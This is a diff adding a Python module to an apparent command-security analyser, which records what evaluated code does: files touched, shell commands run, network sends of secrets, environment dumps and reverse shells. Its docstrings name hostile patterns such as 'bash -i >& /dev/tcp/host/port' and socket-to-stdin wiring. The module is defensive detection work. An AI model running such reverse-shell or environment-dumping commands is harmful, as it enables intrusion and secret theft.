@@ -1,0 +1,174 @@
+"""What evaluated code does, recorded as the shell analyser's actions.
+
+``Effects`` is the half of a code analyser (``python``, ``javascript``) that touches the analysis:
+files read, written and deleted; shell strings and argv lists it runs (through ``Analysis.shell``
+and ``Analysis.dispatch``, so they are analysed as commands, recursively); code it evaluates
+(``Analysis.code``); network destinations; the environment dumped; a socket wired to the standard
+streams of a program it starts (a reverse shell). Values come in as ``values.Val``.
+Standard library only: used on the hot path.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+from vectimus.analyser.context import MAX_WORDS, Analysis, Cmd, Word, basename
+from vectimus.analyser.facts import net
+from vectimus.analyser.languages.values import (
+    CRED, ENV, SECRET, UNKNOWN_MARK, Val, options, render, taint_of, words,
+)
+from vectimus.model import Action
+
+ENVIRON = "/proc/self/environ"  # what dumping the environment reads, as a path policies know
+SHELLS = ("sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish")
+
+
+class Effects:
+    """Records the effects of code in ``lang`` that ``cmd`` runs."""
+
+    def __init__(self, an: Analysis, cmd: Cmd, lang: str) -> None:
+        self.an = an
+        self.cmd = cmd
+        self.lang = lang
+        self.prog = basename(cmd.words[0].text) if cmd.words else lang
+        self.wired: Val | None = None   # a socket duplicated onto the standard streams
+        self.dumped = False
+        self.incomplete: str | None = None
+
+    # -- files ------------------------------------------------------------------------------
+
+    def file(self, kind: str, v: Val, flags: tuple[str, ...] = (), cmd: Cmd | None = None) -> bool:
+        """Record ``kind`` on every path ``v`` may be; True when one of them is a secret."""
+        secret = False
+        for word in words(v, path=True):
+            facts = self.an.file(kind, word, cmd or self.cmd, flags, program=self.prog)
+            secret |= facts.is_secret
+        return secret
+
+    def output(self, *vals: Val) -> None:
+        """Data leaves the program (printed, written, sent, passed to a command): a whole
+        environment among it is a dump, recorded as a read of /proc/self/environ."""
+        if not self.dumped and taint_of(*vals) & ENV:
+            self.dumped = True
+            self.an.file("file_read", Word(ENVIRON), self.cmd, program=self.prog)
+
+    # -- running things ---------------------------------------------------------------------
+
+    def shell(self, v: Val, via: str, cmd: Cmd | None = None) -> None:
+        """Shell text ``v`` runs (``os.system``, ``execSync``): analysed as shell code."""
+        cmd = cmd or self.cmd
+        self.output(v)
+        self._wiring("sh", cmd)
+        for option in options(v)[:MAX_WORDS]:
+            text, dyn = render(option)
+            if not text.replace(UNKNOWN_MARK, "").strip():
+                if dyn:
+                    self.dynamic(via, "sh", cmd)
+                continue
+            at = len(self.an.actions)
+            self.an.shell(Word(text), cmd, via)
+            self._mark(at, dyn, bool(taint_of(option)))
+
+    def argv(self, items: list[Val], via: str, cmd: Cmd | None = None, wired: Val | None = None) -> None:
+        """An argument vector run without a shell (``subprocess.run([...])``, ``spawn``)."""
+        cmd = cmd or self.cmd
+        self.output(*items)
+        if not items:
+            return
+        choices = [words(item) for item in items]
+        combos = 1
+        for c in choices:
+            combos *= max(1, len(c))
+        if combos > MAX_WORDS:
+            choices = [c[:1] if len(c) == 1 else [Word(c[0].text, True, c[0].glob, any(w.secret for w in c))]
+                       for c in choices]
+        for argv in itertools.product(*choices):
+            if not argv or not (argv[0].text or argv[0].dynamic):
+                continue
+            self._wiring(basename(argv[0].text), cmd, wired)
+            at = len(self.an.actions)
+            self.an.dispatch(cmd.with_words(argv, via=via))
+            self._mark(at, False, False)
+
+    def code(self, lang: str, v: Val, via: str) -> None:
+        """Code in ``lang`` that the code evaluates: analysed when known, dynamic when not."""
+        for option in options(v)[:MAX_WORDS]:
+            text, dyn = render(option)
+            if dyn:
+                self.dynamic(via)
+            else:
+                self.an.code(lang, Word(text, secret=bool(taint_of(option))), self.cmd, via)
+
+    def dynamic(self, via: str, program: str = "", cmd: Cmd | None = None) -> None:
+        """Code runs that cannot be known here (``exec(input())``): a dynamic exec of the
+        interpreter (or of ``program``), which the packs treat as code nobody can read."""
+        cmd = cmd or self.cmd
+        program = program or self.prog
+        self.an.add(Action(kind="exec", resource=program, program=program, via=(*cmd.via, via),
+                           raw=cmd.raw, dynamic=True))
+
+    def give_up(self, reason: str) -> None:
+        """The code could not be analysed entirely (too nested, a syntax error): one dynamic exec
+        whose ``via`` gives the one-line reason."""
+        if self.incomplete is None:
+            self.incomplete = reason
+            self.dynamic(f"{self.lang}: {reason}")
+
+    # -- the network ------------------------------------------------------------------------
+
+    def network(self, target: Val, *, data: tuple[Val, ...] = (), headers: tuple[Val, ...] = (),
+                scheme: str = "", port: int = 0, sends: bool = False, listens: bool = False,
+                cmd: Cmd | None = None, program: str = "") -> None:
+        """A connection to ``target`` (URL or host); ``data`` is what it sends, ``headers`` the
+        credentials it authenticates with (only secret files and the environment taint those)."""
+        self.output(*data, *headers)
+        secret = bool(taint_of(*data) & (SECRET | ENV | CRED)) or bool(taint_of(*headers) & (SECRET | ENV))
+        sends = sends or secret or any(not _empty(d) for d in data)
+        for word in words(target):
+            text = word.text
+            if not net.is_url(text) and not word.dynamic and "/" in text:
+                text = text.split("/", 1)[0]
+            net.remote(self.an, cmd or self.cmd, program or self.prog, Word(text, word.dynamic),
+                       sends_data=sends, sends_secret=secret, scheme=scheme, port=port, listens=listens)
+
+    def wire(self, sock: Val) -> None:
+        """A socket now stands for the standard streams (``os.dup2(s.fileno(), 0)``)."""
+        self.wired = sock
+
+    def _wiring(self, program: str, cmd: Cmd, wired: Val | None = None) -> None:
+        """A program started with a socket as its standard streams: a reverse shell when it is a
+        shell, recorded like ``bash -i >& /dev/tcp/host/port`` (a tcp action of the shell)."""
+        sock = wired or self.wired
+        if sock is None:
+            return
+        host, port = sock.value[1].get("host"), sock.value[1].get("port", 0)
+        name = program if program in SHELLS else program.rstrip("0123456789.") or program
+        for word in words(host) if host is not None else [Word("", dynamic=True)]:
+            facts = net.net_facts(word.text, scheme="tcp", port=port, sends_data=True)
+            self.an.network(facts, cmd, program=name, dynamic=word.dynamic)
+
+    def _mark(self, at: int, dynamic: bool, secret: bool) -> None:
+        """Actions recorded from text with unknown parts are dynamic; from secret text, sends of it
+        are secret."""
+        if not dynamic and not secret:
+            return
+        acts = self.an.actions
+        for i in range(at, len(acts)):
+            a = acts[i]
+            if dynamic and _has_mark(a):
+                a = a._replace(dynamic=True, resource=a.resource.replace(UNKNOWN_MARK, "…"),
+                               program=a.program.replace(UNKNOWN_MARK, "…"),
+                               args=tuple(x.replace(UNKNOWN_MARK, "…") for x in a.args),
+                               target=a.target._replace(path=a.target.path.replace(UNKNOWN_MARK, "…")))
+            if secret and a.kind == "network":
+                a = a._replace(net=a.net._replace(sends_data=True, sends_secret=True))
+            acts[i] = a
+
+
+def _has_mark(a: Action) -> bool:
+    return (UNKNOWN_MARK in a.resource or UNKNOWN_MARK in a.program or UNKNOWN_MARK in a.target.path
+            or UNKNOWN_MARK in a.net.url or any(UNKNOWN_MARK in x for x in a.args))
+
+
+def _empty(v: Val) -> bool:
+    return v.kind == 0 and (v.value is None or v.value == "" or v.value == b"")
